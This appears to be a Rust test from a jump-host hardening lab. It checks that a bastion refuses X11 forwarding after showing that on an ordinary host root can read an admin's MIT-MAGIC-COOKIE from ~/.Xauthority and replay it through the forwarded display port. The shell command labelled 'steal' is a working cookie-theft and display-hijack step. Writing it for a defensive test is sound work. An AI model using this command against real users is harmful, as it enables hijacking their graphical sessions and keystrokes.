//! A9: the admin's display, used by others on the jump host.

use super::way;
use anyhow::{Result, ensure};
use jump_lab::lab::Lab;
use jump_lab::story::PATIENCE;

/// A display of the client that is asked for nothing here but to be named.
const DISPLAY: &str = "127.0.0.1:7";

/// Given `ssh -Y`, then on the stock host there is a way to the admin's display, and on the bastion there is none.
pub(crate) fn a09_no_display_is_forwarded(lab: &Lab) -> Result<()> {
    let kurt = lab.admin("kurt").may_reach_databases().arrive()?;
    let seat = &kurt.seat;
    let stock = lab.stock()?;
    stock.account(seat)?;
    let mut display = seat
        .command("nc")
        .args(["-l", "127.0.0.1", "6007"])
        .start()?;
    let mut there = seat
        .command("ssh")
        .args(["-Y", "stock", "echo display $DISPLAY; cat"])
        .env("DISPLAY", DISPLAY)
        .open_input()
        .start()?;
    there.wait_for("display localhost:", PATIENCE)?;
    let number: u16 = there
        .said()
        .trim()
        .trim_start_matches("display localhost:")
        .trim_end_matches(".0")
        .parse()?;
    // Anybody on the host may knock; the cookie that opens stands in the admin's ~/.Xauthority, which root reads.
    let steal = format!(
        "cookie=$(xauth -f /home/{}/.Xauthority list | sed 's/.* //'); \
         {{ printf 'l\\000\\013\\000\\000\\000\\022\\000\\020\\000\\000\\000MIT-MAGIC-COOKIE-1\\000\\000'; \
            printf $(echo $cookie | sed 's/../\\\\x&/g'); sleep 1; }} | timeout 3 nc -N 127.0.0.1 {}",
        seat.name(),
        6000 + number
    );
    stock.command("bash").args(["-c", &steal]).run()?;
    display.wait_for("MIT-MAGIC-COOKIE-1", PATIENCE)?;

    let mut here = way::shell(&kurt, &["-Y", "-v"], &[("DISPLAY", DISPLAY)])?;
    here.wait_for("X11 forwarding request failed", PATIENCE)?;
    let listening = way::listeners(&lab.bastion, kurt.uid)?;
    ensure!(listening.is_empty(), "{listening}");
    here.say("exit\r")?;
    Ok(())
}
